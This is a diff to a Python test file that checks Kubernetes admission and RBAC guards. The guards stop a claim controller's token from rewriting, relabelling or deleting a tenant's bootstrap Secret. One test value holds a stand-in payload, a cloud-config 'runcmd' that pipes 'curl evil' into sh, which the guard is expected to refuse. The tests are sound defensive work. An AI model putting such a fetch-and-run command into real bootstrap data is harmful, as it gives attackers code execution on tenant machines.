@@ -104,7 +104,7 @@ def test_the_claim_side_cannot_delete_another_tenants_claim(clients, rack):
     rack.claim("b-own", namespace=TENANT_B, identity="tenant-b")
     message = refused_by(MEMBERS_GUARD, lambda: claims(clients).delete(name="b-own", namespace=TENANT_B))
     assert "user metalclaim-controller (the metalclaim claim side) may not delete it" in message
-    assert "no HostClaimSet owns it" in message
+    assert "no HostClaimSet or MetalClaimMachine owns it" in message
     assert rack.read_claim("b-own", TENANT_B)["metadata"].get("deletionTimestamp") is None
 
 
@@ -257,3 +257,63 @@ def test_the_claim_sides_token_cannot_reserve_a_host(devenv, clients, rack):
         # What it owns it still writes.
         api.patch(body={"spec": {"online": False}}, name="h4", namespace=rack.namespace, content_type=MERGE)
     assert RESERVED_FOR not in (rack.read_host("h4")["metadata"].get("annotations") or {})
+
+
+# -- 4. Cluster API machines' metaData ------------------------------------------------------------------------------
+
+
+def test_the_claim_side_writes_a_machines_metadata_secret_and_no_tenant_secret(clients, rack):
+    """Its Secret rights in tenant namespaces now include create and update (a Cluster API machine's metaData,
+    _capi/pure/machine.py metadata_secret): the claim-side Secret guard holds them to Secrets labelled
+    metalclaim.io/metadata-of-machine, so a stolen token cannot rewrite a tenant's bootstrap data (its nodes' join
+    credentials) or any other Secret of the tenant, nor relabel one to rewrite it next."""
+    guard = "ValidatingAdmissionPolicy 'metalclaim-claim-side-secrets'"
+    tenant_secrets = clients["tenant-b"].resources.get(api_version="v1", kind="Secret")
+    ours = clients["controller"].resources.get(api_version="v1", kind="Secret")
+    name = f"boot-{uuid.uuid4().hex[:4]}"
+    bootstrap = {
+        "apiVersion": "v1",
+        "kind": "Secret",
+        "type": "cluster.x-k8s.io/secret",
+        "metadata": {"name": name, "namespace": TENANT_B},
+        "stringData": {"value": "#cloud-config\n", "format": "cloud-config"},
+    }
+    kept = tenant_secrets.create(body=bootstrap).to_dict()
+    rewritten = {**bootstrap, "stringData": {"value": "#cloud-config\nruncmd: [curl evil | sh]\n"}}
+    message = refused_by(guard, lambda: ours.replace(body=rewritten, name=name, namespace=TENANT_B))
+    assert f"Secret {TENANT_B}/{name}" in message and "metalclaim.io/metadata-of-machine" in message
+    relabelled = {
+        **rewritten,
+        "metadata": {**bootstrap["metadata"], "labels": {"metalclaim.io/metadata-of-machine": "x"}},
+    }
+    refused_by(guard, lambda: ours.replace(body=relabelled, name=name, namespace=TENANT_B))
+    with pytest.raises(ApiException) as refusal:  # no delete right there at all (RBAC)
+        ours.delete(name=name, namespace=TENANT_B)
+    assert refusal.value.status == 403
+    assert (
+        tenant_secrets.get(name=name, namespace=TENANT_B).metadata.resourceVersion
+        == kept["metadata"]["resourceVersion"]
+    )
+    # What it may write there: a labelled metaData Secret, made, rewritten, never turned into a copy.
+    metadata = {
+        "apiVersion": "v1",
+        "kind": "Secret",
+        "metadata": {
+            "name": f"{name}-metadata",
+            "namespace": TENANT_B,
+            "labels": {"metalclaim.io/metadata-of-machine": "u"},
+        },
+        "stringData": {"metaData": "{}"},
+    }
+    ours.create(body=metadata)
+    ours.replace(
+        body={**metadata, "stringData": {"metaData": '{"local-hostname": "w"}'}},
+        name=f"{name}-metadata",
+        namespace=TENANT_B,
+    )
+    as_copy = {**metadata, "metadata": {**metadata["metadata"], "labels": {"metalclaim.io/copy-of-claim": "u"}}}
+    with pytest.raises(ApiException) as refusal:  # this guard's, or the copy-on-create policy's (anybody's)
+        ours.replace(body=as_copy, name=f"{name}-metadata", namespace=TENANT_B)
+    assert refusal.value.status == 403 and "denied request" in refusal.value.body
+    tenant_secrets.delete(name=f"{name}-metadata", namespace=TENANT_B)
+    tenant_secrets.delete(name=name, namespace=TENANT_B)
